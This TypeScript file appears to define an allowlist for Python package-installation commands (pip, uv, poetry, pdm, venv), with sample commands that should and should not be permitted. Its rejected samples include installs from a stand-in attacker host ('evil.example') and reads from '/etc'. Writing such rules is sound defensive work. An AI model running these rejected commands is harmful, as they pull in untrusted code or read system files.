/** How set-up installs Python packages, as named in the repository's files. */
import { python } from './python.ts';
import type { Form, Program, Subcommand } from './rule.ts';

const fromFiles: Form = {
  flags: `
    -r=read --requirement=read -c=read --constraint=read -e=read --editable=read --no-deps --no-input
    -q --quiet -U --upgrade --no-cache-dir --no-build-isolation --prefer-binary --disable-pip-version-check
    --only-binary=name --no-warn-script-location
  `,
  operands: ['package...'],
  minOperands: 1,
  minUnless: ['-r', '--requirement', '-e', '--editable'],
};

const pipInstall: Subcommand = {
  names: ['install'],
  reason: 'installs what the repository’s files name',
  ...fromFiles,
  match: [
    'pip install -r requirements.txt -r requirements-dev.txt',
    '.venv/bin/pip install -r requirements.txt',
    'python3 -m pip install -e .',
    "pip install '.[dev]'",
    "pip install 'pytest>=8' ruff==0.6.1",
  ],
  notMatch: [
    'pip install --index-url https://evil.example x',
    'pip install -r /etc/x',
    'pip install --target=/x a',
    'pip install',
    'pip install https://evil.example/x.tgz',
  ],
};

export const pip: Program = {
  names: ['pip', 'pip3', '.venv/bin/pip', '.venv/bin/pip3', 'venv/bin/pip'],
  toolOf: 'python',
  reason: 'installs what the repository’s files name',
  flags: '--version -V',
  subcommands: [pipInstall],
  match: ['pip --version'],
  notMatch: ['pip config set x y', 'pip download evil', 'pip uninstall x'],
};

const makeFolder: Form = {
  flags: '--system-site-packages --clear --upgrade-deps --without-pip --prompt=name',
  operands: ['write'],
};
const { refused: _, ...runTool } = (python.subcommands ?? []).find(({ names }) =>
  names.includes('-m'),
) as Subcommand;

/** `-m` accepts the set-up tools as well. */
export const pythonTool: Subcommand = {
  ...runTool,
  match: ['python3 -m venv --system-site-packages .venv', 'python -m pip install -r requirements.txt'],
  notMatch: ['python -m http.server', 'python -m ensurepip', 'python -m'],
};

export const venv = {
  program: {
    names: ['venv'],
    toolOf: 'python',
    reason: 'creates a virtual environment',
    ...makeFolder,
    minOperands: 1,
    match: ['python3 -m venv .venv', 'python -m venv --clear venv'],
    notMatch: ['python3 -m venv /opt/x', 'python3 -m venv', 'python3 -m venv .git/x'],
  } satisfies Program as Program,
  asSubcommand: {
    names: ['venv'],
    reason: 'creates a virtual environment',
    ...makeFolder,
    match: ['uv venv', 'uv venv .venv'],
    notMatch: ['uv venv /opt/x', 'uv venv --python=/x'],
  } satisfies Subcommand as Subcommand,
};

export const uvInstall: Subcommand = {
  names: ['sync'],
  reason: 'installs what uv.lock names',
  flags: `
    --frozen --locked --offline --all-extras --all-groups --all-packages --dev --no-dev --no-install-project
    --no-build-isolation -q --quiet --no-progress --extra=name --group=name --no-group=name --package=name
  `,
  operands: [],
  match: ['uv sync --frozen', 'uv sync --locked --all-extras'],
  notMatch: ['uv sync --index-url https://evil.example', 'uv sync evil', 'uv sync --directory=/x'],
};

export const uvPip: Subcommand = {
  ...pipInstall,
  names: ['pip install'],
  flags: `${fromFiles.flags} --system`,
  match: ['uv pip install -r requirements.txt', 'uv pip install -e .'],
  notMatch: ['uv pip install --index-url https://evil.example x', 'uv pip install -r /etc/x'],
};

export const poetryInstall: Subcommand = {
  names: ['install'],
  reason: 'installs what poetry.lock names',
  flags: `
    -n --no-interaction --no-root --all-extras --all-groups --sync --no-directory -q --quiet --no-cache
    --with=name --without=name --only=name -E=name --extras=name
  `,
  operands: [],
  match: ['poetry install --no-interaction', 'poetry install --no-root --with dev'],
  notMatch: ['poetry install evil', 'poetry install --directory=/x', 'poetry add evil'],
};

export const pdmInstall: Subcommand = {
  names: ['install', 'sync'],
  reason: 'installs what pdm.lock names',
  wordFlags: true,
  flags: '--frozen-lockfile --no-self --no-editable --dev --prod --check -q --quiet -G=name --group=name',
  operands: [],
  match: ['pdm install --frozen-lockfile', 'pdm sync --group test'],
  notMatch: ['pdm install evil', 'pdm install --project=/x', 'pdm add evil'],
};
